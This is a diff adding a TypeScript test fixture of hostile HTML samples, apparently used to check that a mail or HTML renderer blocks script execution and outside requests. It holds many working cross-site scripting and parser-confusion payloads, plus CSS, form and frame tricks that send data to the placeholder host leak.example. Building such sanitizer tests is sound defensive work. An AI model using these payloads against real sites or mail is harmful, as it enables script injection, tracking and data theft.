@@ -1,0 +1,73 @@
+/**
+ * HTML that tries to run a script or to reach a host, one trick each. `RUN` calls the function that the test puts into
+ * every frame; the hosts end in `leak.example`, a name that nobody has (RFC 2606).
+ */
+const RUN = "(self.ranScript||top.ranScript||alert)('x')";
+const RUN_ENCODED = Buffer.from(`<script>${RUN}</script>`).toString('base64');
+const host = (name: string): string => `${name}.leak.example`;
+const url = (name: string): string => `https://${host(name)}/x`;
+const svgData = `data:image/svg+xml;base64,${Buffer.from(
+  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${url('svg-data')}"/></svg>`,
+).toString('base64')}`;
+
+export const HOSTILE_HTML: Readonly<Record<string, string>> = {
+  'a script': `<script>${RUN}</script>`,
+  'a script of another host': `<script src="${url('script')}"></script>`,
+  'a module': `<script type="module">import '${url('module')}';${RUN}</script>`,
+  'an event handler of a picture': `<img src=x onerror="${RUN}">`,
+  'an event handler of the body': `<body onload="${RUN}" onpageshow="${RUN}">`,
+  'an event handler that an animation starts': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${RUN}">x`,
+  'an event handler of details': `<details open ontoggle="${RUN}">x</details>`,
+  'an autofocus': `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
+  'an event handler behind a slash': `<img/src=x/onerror=${RUN}>`,
+  'an event handler in an unclosed tag': `<img src=x onerror=${RUN} <p>`,
+  SVG: `<svg onload="${RUN}"><script>${RUN}</script><image href="${url('svg-image')}"/></svg>`,
+  'SVG that uses another': `<svg><use href="${url('svg-use')}#x"/><feImage href="${url('svg-fe')}"/></svg>`,
+  'SVG that animates a link': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text>x</text></a></svg>`,
+  'SVG with HTML in it': `<svg><foreignObject><iframe src="javascript:top.ranScript('x')"></iframe></foreignObject></svg>`,
+  MathML: `<math href="javascript:${RUN}"><mtext><img src="${url('math')}" onerror="${RUN}"></mtext></math>`,
+  'MathML and a style that swap places': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  'a comment that ends early': `<!--><img src=x onerror="${RUN}">-->`,
+  'a noscript that changes meaning': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  'a template': `<template><img src="${url('template')}" onerror="${RUN}"></template>`,
+  'a refresh': `<meta http-equiv="refresh" content="0;url=${url('refresh')}">`,
+  'a refresh to a script': `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${RUN_ENCODED}">`,
+  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url('report')}"><img src="${url('policy')}">`,
+  'a base': `<base href="https://${host('base')}/"><img src="picture.png"><a href="x">x</a>`,
+  'a form': `<form action="${url('form')}" id="f"><input name="p" value="1"></form><script>document.forms[0].submit()</script>`,
+  'a button that belongs to a form': `<form id=f></form><input form=f type=image src="${url('form-image')}" formaction="javascript:${RUN}">`,
+  'an import of CSS': `<style>@import "${url('css-import')}"; @import url(${url('css-import-url')});</style>`,
+  'a style sheet': `<link rel="stylesheet" href="${url('css-link')}"><link rel="icon" href="${url('icon')}">`,
+  'addresses in CSS': `<style>body{background:url(${url('css-url')});list-style-image:url("${url('css-list')}");cursor:url(${url('css-cursor')}),auto;border-image-source:url(${url('css-border')})}p::before{content:url(${url('css-content')})}</style><p>x`,
+  'addresses in CSS behind escapes': `<p style="background:u\\72l(${url('css-escape')})">x<p style="background:\\75\\72\\6c(${url('css-escape-2')})">x`,
+  'sets of pictures in CSS': `<p style="background:image-set('${url('css-set')}' 1x)">x<p style="background:-webkit-image-set(url(${url('css-webkit-set')}) 1x)">x<p style="--a:'${url('css-var')}';background:image-set(var(--a) 1x)">x`,
+  'attribute selectors that spell a secret': `<style>input[value^="s"]{background:url(${url('css-selector')})}a[href]{background:url(${url('css-selector-2')})}</style><input value="secret"><a href="https://shop.example/">x</a>`,
+  fonts: `<style>@font-face{font-family:f;src:url(${url('font')});unicode-range:U+61}p{font-family:f}</style><p>a`,
+  'masks, filters and paths in CSS': `<p style="mask:url(${url('css-mask')}#m);filter:url(${url('css-filter')}#f);clip-path:url(${url('css-clip')}#c);shape-outside:url(${url('css-shape')});-webkit-mask-image:url(${url('css-webkit-mask')})">x`,
+  'CSS that leaves its element': `<style>a{}</sty</style ><img src=x onerror="${RUN}"><style>p{content:"</style><script>${RUN}</script>"}`,
+  'a data: page': `<iframe src="data:text/html;base64,${RUN_ENCODED}"></iframe><object data="data:text/html;base64,${RUN_ENCODED}"></object><embed src="data:text/html;base64,${RUN_ENCODED}">`,
+  'a data: picture that is SVG': `<img src="${svgData}"><p style="background:url('${svgData}')">x`,
+  'links that run scripts': `<a href="javascript:${RUN}" id=a>x</a><a href="java&#10;script:${RUN}">x</a><a href="&#1;javascript:${RUN}">x</a><a href="vbscript:x">x</a>`,
+  'a blob:': `<iframe src="blob:${url('blob')}"></iframe><script>location=URL.createObjectURL(new Blob(['<script>1']))</script>`,
+  'a cid: that is an address': `<img src="cid:${url('cid')}"><img src="cid:../../api/mails">`,
+  'a frame with a document in it': `<iframe srcdoc="<script>${RUN}</script><img src='${url('srcdoc')}'>"></iframe>`,
+  frames: `<iframe src="${url('iframe')}"></iframe><object data="${url('object')}"></object><embed src="${url('embed')}"><applet code="${url('applet')}"></applet>`,
+  'a frame set': `<frameset><frame src="${url('frame')}"></frameset>`,
+  'a fenced frame and a portal': `<fencedframe src="${url('fenced')}"></fencedframe><portal src="${url('portal')}"></portal>`,
+  'names to be resolved': `<link rel="dns-prefetch" href="//${host('dns-prefetch')}"><link rel="preconnect" href="https://${host('preconnect')}">`,
+  'things to be loaded ahead': `<link rel="prefetch" href="${url('prefetch')}"><link rel="preload" as="image" href="${url('preload')}"><link rel="modulepreload" href="${url('modulepreload')}"><link rel="prerender" href="${url('prerender')}"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}</script>`,
+  'many links, whose names a browser may resolve ahead': `<meta http-equiv="x-dns-prefetch-control" content="on">${Array.from({ length: 50 }, (_, at) => `<a href="${url(`link-${at}`)}" ping="${url('ping')}">x</a>`).join('')}`,
+  'sets of pictures': `<img srcset="${url('srcset')} 1x, ${url('srcset-2')} 2x"><picture><source srcset="${url('picture')}"><img src="${url('picture-img')}"></picture>`,
+  'sound and film': `<video src="${url('video')}" poster="${url('poster')}" autoplay></video><audio src="${url('audio')}" autoplay></audio><video><source src="${url('source')}"><track default src="${url('track')}"></video>`,
+  'backgrounds and other old attributes': `<body background="${url('body')}"><table background="${url('table')}"><td background="${url('td')}">x</table><img lowsrc="${url('lowsrc')}" dynsrc="${url('dynsrc')}">`,
+  'pictures without a scheme': `<img src="//${host('no-scheme')}/x"><img src="\\\\${host('backslash')}\\x"><img src="https:${host('one-colon')}"><img src=" https://${host('blank')}/x">`,
+  'pictures of this server': `<img src="/mails/01J00000000000000000000000/raw"><img src="/api/mails">`,
+  'a manifest and a profile': `<html manifest="${url('manifest')}"><head profile="${url('profile')}"><link rel=manifest href="${url('manifest-2')}">`,
+  'a link that a script could follow': `<a href="${url('click')}" id="go">x</a><script>document.getElementById('go').click()</script>`,
+  'names that hide those of the page': `<img name="cookie"><form id="ranScript"></form><a id="defaultView"></a><img id="body" src=x onerror="${RUN}">`,
+  'a document in a text field': `<textarea><script>${RUN}</script></textarea></textarea><img src=x onerror="${RUN}">`,
+  'a document type with an entity': `<!DOCTYPE html [<!ENTITY x SYSTEM "${url('entity')}">]><p>&x;<?xml-stylesheet href="${url('xml-stylesheet')}"?>`,
+  'UTF-7 and byte order marks': `\ufeff<meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  'NUL in the names of elements': `<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error="${RUN}">`,
+  'huge HTML': `${'<div><table><tr><td style="background:url(https://huge.leak.example/x)">'.repeat(1_000)}${'<p>word</p>'.repeat(50_000)}<script>${RUN}</script>`,
+};
